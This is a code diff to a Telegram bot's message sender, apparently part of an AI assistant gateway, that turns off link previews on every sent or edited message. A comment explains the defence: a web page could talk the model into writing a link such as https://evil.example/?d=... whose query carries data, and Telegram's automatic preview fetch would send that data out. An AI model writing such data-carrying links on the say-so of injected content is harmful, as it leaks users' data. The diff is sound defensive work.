@@ -32,6 +32,7 @@ from telegram import (
     Bot,
     InlineKeyboardButton,
     InlineKeyboardMarkup,
+    LinkPreviewOptions,
     Message,
     MessageEntity,
     ReplyParameters,
@@ -60,6 +61,12 @@ log = logging.getLogger(__name__)
 # Under a streamed draft while the answer is written: a press sends /stop from the presser
 # (channels/telegram/convert.py), whom the gateway checks; the final edit takes it away.
 STOP_BUTTON = InlineKeyboardMarkup([[InlineKeyboardButton("Stop", callback_data="/stop")]])
+
+# Every text the bot sends or edits asks Telegram for no link preview: Telegram's servers
+# would fetch the first link at once, no click needed, so an address holding data
+# (https://evil.example/?d=...) that a page talked the model into writing would carry it
+# out (docs/security.md, "Links in answers"). sendMessageDraft takes no such option.
+NO_PREVIEW = LinkPreviewOptions(is_disabled=True)
 
 MAX_PHOTO_BYTES = 10_000_000  # larger images go as documents
 _MAX_TRACKED = 1_000
@@ -217,7 +224,11 @@ class Sender:
         try:
             await _mapped(
                 lambda: self._bot.edit_message_text(
-                    text, chat_id=chat.chat_id, message_id=message_id, reply_markup=STOP_BUTTON
+                    text,
+                    chat_id=chat.chat_id,
+                    message_id=message_id,
+                    reply_markup=STOP_BUTTON,
+                    link_preview_options=NO_PREVIEW,
                 )
             )
         except ChannelPermanentError as exc:
@@ -341,6 +352,7 @@ class Sender:
                     message_id=draft,
                     entities=entities or None,
                     reply_markup=markup,
+                    link_preview_options=NO_PREVIEW,
                 )
             except BadRequest as exc:
                 if "not modified" not in exc.message.lower():
@@ -416,6 +428,7 @@ class Sender:
             message_thread_id=to.thread,
             reply_parameters=to.reply,
             reply_markup=markup,
+            link_preview_options=NO_PREVIEW,
         )
 
     # -- pacing ---------------------------------------------------------------------------
